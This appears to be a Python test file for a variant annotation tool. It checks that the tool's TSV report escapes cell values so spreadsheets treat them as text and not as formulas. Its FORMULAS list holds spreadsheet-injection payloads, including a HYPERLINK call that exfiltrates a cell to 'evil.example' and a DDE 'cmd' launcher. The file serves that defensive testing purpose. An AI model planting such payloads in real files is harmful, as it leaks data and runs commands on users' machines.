"""The report's table: every cell gives its value back, and no cell is a formula to a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.report.build import build_report
from annotator.report.tsv import NOTES, cell, tsv_columns, tsv_lines
from tests.support.report_views import decoded, table_of
from tests.support.reports import PATHOGENIC, line, predictive, write_annotated

NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", re.ASCII)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"see here")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\uff1d1+1",
    '"=1+1"',
    "'=1+1",
    " =1+1",
)


@given(st.text(st.characters(codec="utf-8")))
def test_a_cell_gives_its_value_back_and_is_no_formula(value: str) -> None:
    text = cell(value)
    assert decoded(text) == value
    assert not {"\t", "\n", "\r"} & set(text)
    assert not text.startswith(("=", "@", '"', "'", " ", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert not text.startswith(("+", "-")) or NUMBER.fullmatch(text)


@pytest.mark.parametrize("value", ["-1.5", "+3", "-2e-10", "0", "c.-124C>T", "p.Val600=", "a=b", "T-ALL"])
def test_numbers_and_single_signs_are_not_encoded(value: str) -> None:
    assert cell(value) == value


def test_formulas_of_a_file_reach_a_spreadsheet_as_text(tmp_path: Path) -> None:
    records = [
        line(
            140753336 + number,
            {**PATHOGENIC, "CLNDN": text, "GENEINFO": f"{text}:1"},
            [predictive(1, Disease=text, Therapies=f"{text.replace('&', '+')}&b\tc%", MolecularProfile=text)],
            name=text.replace(" ", "_"),
            genotypes=("0/1",),
        )
        for number, text in enumerate(FORMULAS)
    ]
    report = build_report([write_annotated(tmp_path / "a.vcf", records, samples=("=1+1 & co",))])
    text = "".join(tsv_lines(report))
    # As a spreadsheet reads it: quotes quote, and a formula is what then begins with its sign.
    cells = [one for row in csv.reader(io.StringIO(text), delimiter="\t") for one in row]
    assert not [one for one in cells if one.strip(" '\"")[:1] in {"=", "+", "@", "\uff1d"}]
    assert not [one for one in cells if one.startswith("-") and not NUMBER.fullmatch(one)]
    rows = table_of(text)
    assert [decoded(row["CLNDN"]) for row in rows] == [one.replace(" ", "_") for one in FORMULAS]
    assert [decoded(row["CIVIC.Disease"]) for row in rows] == [one.replace(" ", "_") for one in FORMULAS]
    for row, formula in zip(rows, FORMULAS, strict=True):
        therapies = [decoded(one) for one in row["CIVIC.Therapies"].split("&")]
        assert therapies == [formula.replace(" ", "_").replace("&", "+"), "b\tc%"]
        assert [decoded(one) for one in row["CARRIED_BY"].split("&")] == ["=1+1 & co"]
        assert decoded(row["GENES"].split("&")[1]) == re.split("[|:]", formula)[0].replace(" ", "_")


def test_the_description_of_the_table_documents_the_encoding() -> None:
    assert any("spreadsheet" in note for note in NOTES)
    names = [column.name for column in tsv_columns()]
    assert len(set(names)) == len(names)
    assert {"OPAL_STATUS", "CGI.OncogenicSummary", "CGI_DRUG.Drugs"} <= set(names)
